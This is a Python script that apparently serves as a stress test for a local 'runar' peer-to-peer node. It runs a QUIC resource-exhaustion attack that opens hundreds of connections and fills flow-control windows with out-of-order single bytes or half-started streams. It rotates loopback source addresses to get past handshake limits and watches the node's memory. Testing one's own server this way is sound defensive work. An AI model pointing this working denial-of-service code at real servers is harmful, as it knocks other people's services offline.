"""Fills the windows of a node with connections that nobody admits, and prints the node's memory meanwhile.

attack_windows.py PID PORT [--variant chunks|streams] [--connections 512] [--seconds 20] [--limit 64]

PID and PORT are those of a node on 127.0.0.1, for example of `runar up`. Each connection proves a key of its own in TLS,
says nothing of a network and sends as much as the node allows:

chunks   one byte out of order in every 8 KiB of every window: ngtcp2 keeps a piece of 8 KiB for each
streams  one byte on every stream: each has a task that waits for the second byte of its header

The clients come from 250 addresses of 127.0.0.0/8, since a node limits handshakes by source. Every observation is one
line of JSON on standard output. The exit status is 1 if the node's memory grew by more than the limit in MiB.

Run it with the Python of .venv (scripts/python-env.sh).
"""

import argparse
import asyncio
import contextlib
import json
import multiprocessing
import os
import socket
import ssl
import sys
import time

from aioquic.asyncio import QuicConnectionProtocol
from aioquic.quic import events
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import QuicConnection
from aioquic.quic.packet import QuicPacketType
from aioquic.quic.packet_builder import QuicPacketBuilderStop
from aioquic.tls import Epoch

from credentials import Credentials

# What ngtcp2 allocates at a time for bytes out of order.
PIECE = 8 << 10
# STREAM with an offset and a length (RFC 9000, section 19.8), and the room that one with a single byte takes at most.
STREAM_FRAME, STREAM_FRAME_ROOM = 0x0E, 20
# Streams that one connection opens at most.
STREAMS = 2000
ADDRESSES = 250


def say(event, **fields):
    print(json.dumps({"event": event, **fields}), flush=True)


class Attacker(QuicConnection):
    """A connection that sends single bytes of streams wherever it is told to, in any order, and none of them again."""

    def __init__(self, **options):
        super().__init__(**options)
        self.bytes_to_send = []

    def _write_application(self, builder, network_path, now):
        while self._handshake_complete and self.bytes_to_send:
            builder.start_packet(QuicPacketType.ONE_RTT, self._cryptos[Epoch.ONE_RTT])
            with contextlib.suppress(QuicPacketBuilderStop):
                while self.bytes_to_send:
                    buffer = builder.start_frame(STREAM_FRAME, capacity=STREAM_FRAME_ROOM)
                    stream, offset = self.bytes_to_send.pop()
                    buffer.push_uint_var(stream)
                    buffer.push_uint_var(offset)
                    buffer.push_uint_var(1)
                    buffer.push_bytes(b"\x01")
            if builder.packet_is_empty:
                raise QuicPacketBuilderStop
        super()._write_application(builder, network_path, now)

    def fill(self, places):
        """Sends one byte at each of these places, which are streams and offsets."""
        for stream, _ in places:
            # Else what the node says about the stream would be an error.
            self._get_or_create_stream_for_send(stream)
        self.bytes_to_send = places[::-1]

    @property
    def limits(self):
        """What the node announced in its transport parameters, and what it allowed since."""
        return {
            "data": self._remote_max_data,
            "stream": self._remote_max_stream_data_bidi_remote,
            "streams": self._remote_max_streams_bidi,
        }


class Client(QuicConnectionProtocol):
    """Notes with which code the node closes the connection."""

    code = None

    def quic_event_received(self, event):
        if isinstance(event, events.ConnectionTerminated):
            self.code = event.error_code


def chunks(limits):
    """The middle of every piece of every window; what counts against the connection is the highest offset."""
    places, room = [], limits["data"]
    for number in range(min(limits["streams"], STREAMS)):
        offsets = range(PIECE // 2, min(limits["stream"], room), PIECE)
        if not offsets:
            break
        places += [(4 * number, offset) for offset in offsets]
        room -= offsets[-1] + 1
    return places


def streams(limits):
    """The first byte of every stream."""
    return [(4 * number, 0) for number in range(min(limits["streams"], limits["data"], STREAMS))]


VARIANTS = {"chunks": chunks, "streams": streams}


@contextlib.asynccontextmanager
async def dialled(port, source):
    settings = QuicConfiguration(
        is_client=True, alpn_protocols=["runar-p2p-1"], verify_mode=ssl.CERT_NONE, server_name="localhost"
    )
    Credentials.make("ed25519").install(settings)
    room = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    room.bind((source, 0))
    transport, client = await asyncio.get_running_loop().create_datagram_endpoint(
        lambda: Client(Attacker(configuration=settings)), sock=room
    )
    try:
        client.connect(("127.0.0.1", port))
        await asyncio.wait_for(client.wait_connected(), 10)
        yield client
    finally:
        transport.close()


async def hold(options, number, state):
    """Holds one connection, and another one when the node has closed it."""
    turn = 0
    while time.monotonic() < state["end"]:
        turn += 1
        source = f"127.0.1.{1 + (number + turn) % ADDRESSES}"
        try:
            async with dialled(options.port, source) as client:
                state["open"] += 1
                try:
                    limits = client._quic.limits
                    places = VARIANTS[options.variant](limits)
                    client._quic.fill(places)
                    state["limits"], state["frames"] = limits, len(places)
                    while client.code is None and time.monotonic() < state["end"]:
                        client.transmit()
                        await asyncio.sleep(0.05)
                finally:
                    state["open"] -= 1
                state["codes"][client.code] = state["codes"].get(client.code, 0) + 1
        except (ConnectionError, TimeoutError):
            state["refused"] += 1
            await asyncio.sleep(0.2)


async def attack(options, numbers, reports):
    state = {"end": time.monotonic() + options.seconds, "open": 0, "refused": 0, "codes": {}}

    async def report():
        while time.monotonic() < state["end"]:
            reports.put((numbers[0], {name: value for name, value in state.items() if name != "end"}))
            await asyncio.sleep(0.25)

    await asyncio.gather(report(), *(hold(options, number, state) for number in numbers))


def work(options, numbers, reports):
    asyncio.run(attack(options, numbers, reports))


def resident(pid):
    """The resident memory of a process in KiB."""
    with open(f"/proc/{pid}/status") as status:
        return next(int(line.split()[1]) for line in status if line.startswith("VmRSS:"))


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("pid", type=int)
    parser.add_argument("port", type=int)
    parser.add_argument("--variant", choices=sorted(VARIANTS), default="chunks")
    parser.add_argument("--connections", type=int, default=512)
    parser.add_argument("--seconds", type=float, default=20)
    parser.add_argument("--processes", type=int, default=os.cpu_count() or 1)
    parser.add_argument("--limit", type=float, default=64, help="MiB by which the memory of the node may grow")
    options = parser.parse_args()
    before = highest = resident(options.pid)
    say("before", kibibytes=before)
    reports, latest = multiprocessing.Queue(), {}
    workers = [
        multiprocessing.Process(
            target=work, args=(options, list(range(first, options.connections, options.processes)), reports)
        )
        for first in range(min(options.processes, options.connections))
    ]
    for worker in workers:
        worker.start()
    most = 0
    while any(worker.is_alive() for worker in workers):
        time.sleep(0.5)
        while not reports.empty():
            worker, state = reports.get()
            latest[worker] = state
        held = sum(state["open"] for state in latest.values())
        now = resident(options.pid)
        highest, most = max(highest, now), max(most, held)
        say("memory", kibibytes=now, connections=held, refused=sum(state["refused"] for state in latest.values()))
    for worker in workers:
        worker.join()
    codes = {}
    for state in latest.values():
        for code, count in state["codes"].items():
            codes[code] = codes.get(code, 0) + count
    any_state = next((state for state in latest.values() if "limits" in state), {})
    grown = (highest - before) / 1024
    say(
        "result",
        variant=options.variant,
        limits=any_state.get("limits"),
        frames=any_state.get("frames"),
        connections=most,
        mebibytes=round(grown, 1),
        kibibytesEach=round((highest - before) / most, 1) if most else None,
        codes={str(code): count for code, count in codes.items()},
    )
    return 1 if grown > options.limit or most == 0 else 0


if __name__ == "__main__":
    sys.exit(main())
